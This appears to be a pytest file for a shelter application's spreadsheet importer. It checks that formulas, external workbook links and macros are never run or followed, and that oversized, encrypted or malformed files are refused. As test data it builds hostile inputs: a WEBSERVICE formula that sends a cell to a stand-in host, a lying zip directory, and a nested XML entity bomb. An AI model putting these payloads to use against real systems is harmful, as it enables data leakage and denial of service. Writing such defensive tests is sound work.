"""Files that mean harm, or that only look like a register: never run, never followed, never in the way."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
import xlsxwriter

from shelter_app.domain.errors import Refused
from shelter_app.transfer.table import read_sheets

NAMES = "urn:oasis:names:tc:opendocument:xmlns"
ODS = "".join(
    f"""<?xml version="1.0" encoding="UTF-8"?>
<office:document-content xmlns:office="{NAMES}:office:1.0" xmlns:table="{NAMES}:table:1.0"
 xmlns:text="{NAMES}:text:1.0" office:version="1.2"><office:body><office:spreadsheet>
<table:table table:name="Cazari"><table:table-row>
<table:table-cell office:value-type="string"><text:p>Cod</text:p></table:table-cell>
<table:table-cell office:value-type="string"><text:p>Data intrării</text:p></table:table-cell>
</table:table-row><table:table-row>
<table:table-cell office:value-type="string"><text:p>CEDRU-14</text:p></table:table-cell>
<table:table-cell office:value-type="date" office:date-value="2024-03-12"><text:p>12.03.24</text:p></table:table-cell>
</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>""".splitlines()
)

MANIFEST = f"""<?xml version="1.0" encoding="UTF-8"?>
<manifest:manifest xmlns:manifest="{NAMES}:manifest:1.0" manifest:version="1.2">
<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>
<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>"""


def workbook(path: Path, fill: Callable[[xlsxwriter.Workbook, xlsxwriter.worksheet.Worksheet], None]) -> Path:
    with xlsxwriter.Workbook(path) as book:
        fill(book, book.add_worksheet("Cazari"))
    return path


def with_members(path: Path, members: dict[str, bytes | str]) -> Path:
    """Put members into a workbook, in place of those of the same name."""
    with zipfile.ZipFile(path) as archive:
        kept = {n: archive.read(n) for n in archive.namelist() if n not in members}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {**kept, **members}.items():
            archive.writestr(name, content)
    return path


def test_a_formula_is_the_value_that_was_stored_with_it(tmp_path: Path) -> None:
    def fill(_book: xlsxwriter.Workbook, sheet: xlsxwriter.worksheet.Worksheet) -> None:
        sheet.write_row(0, 0, ["Cod", "Data"])
        sheet.write_formula(1, 0, '=WEBSERVICE("http://example.invalid/"&B2)', None, "CEDRU-14")
        sheet.write_formula(1, 1, "='[1]Alt registru'!B2+1", None, "12.03.2024")
        sheet.write_formula(2, 0, "=1+1", None, 40)

    (sheet,) = read_sheets(workbook(tmp_path / "formule.xlsx", fill))
    assert sheet.rows[1] == ["CEDRU-14", "12.03.2024"]
    assert sheet.rows[2][0] == 40  # what the file says, not what the formula comes to


def test_a_link_to_another_workbook_is_not_followed(tmp_path: Path) -> None:
    def fill(_book: xlsxwriter.Workbook, sheet: xlsxwriter.worksheet.Worksheet) -> None:
        sheet.write_row(0, 0, ["Cod", "Data"])
        sheet.write_row(1, 0, ["CEDRU-14", "12.03.2024"])

    secret = tmp_path / "secret.xlsx"
    workbook(secret, lambda _b, s: s.write(0, 0, "din alt fișier"))
    linked = with_members(
        workbook(tmp_path / "legat.xlsx", fill),
        {
            "xl/externalLinks/externalLink1.xml": "<externalLink><externalBook r:id='rId1'/></externalLink>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": f"<R><R Target='{secret}' TargetMode='External'/></R>",
        },
    )
    (sheet,) = read_sheets(linked)
    assert sheet.rows == [["Cod", "Data"], ["CEDRU-14", "12.03.2024"]]


def test_a_workbook_with_macros_is_read_and_its_macros_are_not(tmp_path: Path) -> None:
    made = workbook(tmp_path / "registru.xlsx", lambda _b, s: s.write_row(0, 0, ["Cod", "Data"]))
    made = made.rename(tmp_path / "registru.xlsm")
    (sheet,) = read_sheets(
        with_members(made, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"Sub Auto_Open" * 99})
    )
    assert sheet.rows == [["Cod", "Data"]]


def test_an_open_document_sheet_is_read_like_any_other(tmp_path: Path) -> None:
    made = tmp_path / "registru.ods"
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", ODS)
        archive.writestr("META-INF/manifest.xml", MANIFEST)
    (sheet,) = read_sheets(made)
    assert sheet.name == "Cazari"
    assert sheet.rows[1][0] == "CEDRU-14"
    assert str(sheet.rows[1][1]).startswith("2024-03-12")


def _one_huge_cell(path: Path) -> Path:
    made = workbook(path / "mare.xlsx", lambda _b, s: s.write(0, 0, "x"))
    huge = b"<sst><si><t>" + b"a" * (120 * 2**20) + b"</t></si></sst>"
    return with_members(made, {"xl/sharedStrings.xml": huge})


def _two_gigabytes_behind_a_small_lie(path: Path) -> Path:
    made = _one_huge_cell(path)
    content = bytearray(made.read_bytes())
    at = content.find(b"PK\x01\x02")
    while at >= 0:  # the directory says that each member is ten bytes long
        content[at + 24 : at + 28] = (10).to_bytes(4, "little")
        at = content.find(b"PK\x01\x02", at + 4)
    made.write_bytes(content)
    return made


def _locked_with_a_password(path: Path) -> Path:
    made = path / "parolat.xlsx"
    made.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + b"E\0n\0c\0r\0y\0p\0t\0e\0d\0" * 40)
    return made


def _far_too_many_rows(path: Path) -> Path:
    made = path / "lung.csv"
    made.write_text("cod;data\n" + "a;b;c;d;e;f;g;h\n" * 700_000, encoding="utf-8")
    return made


def _bytes_of_a_picture(path: Path) -> Path:
    made = path / "registru.csv"
    made.write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0\1\2" * 2000)
    return made


@pytest.mark.parametrize(
    "made",
    [
        _one_huge_cell,
        _two_gigabytes_behind_a_small_lie,
        _locked_with_a_password,
        _far_too_many_rows,
        _bytes_of_a_picture,
    ],
)
def test_what_no_register_is_gets_one_sentence(made: Callable[[Path], Path], tmp_path: Path) -> None:
    with pytest.raises(Refused) as refused:
        read_sheets(made(tmp_path))
    assert refused.value.code in ("too_large", "unreadable")
    assert refused.value.fields == ("file",)


def test_words_that_unfold_into_words_are_not_unfolded(tmp_path: Path) -> None:
    """Ten levels of ten: a reader that expanded them would need gigabytes."""
    levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY e0 "ha">{levels}]><sst><si><t>&e9;</t></si></sst>'
    made = workbook(tmp_path / "entitati.xlsx", lambda _b, s: s.write(0, 0, "x"))
    try:
        (sheet,) = read_sheets(with_members(made, {"xl/sharedStrings.xml": bomb}))
    except Refused as refused:
        assert refused.code in ("too_large", "unreadable")
    else:
        assert sum(len(str(cell)) for row in sheet.rows for cell in row) < 1000
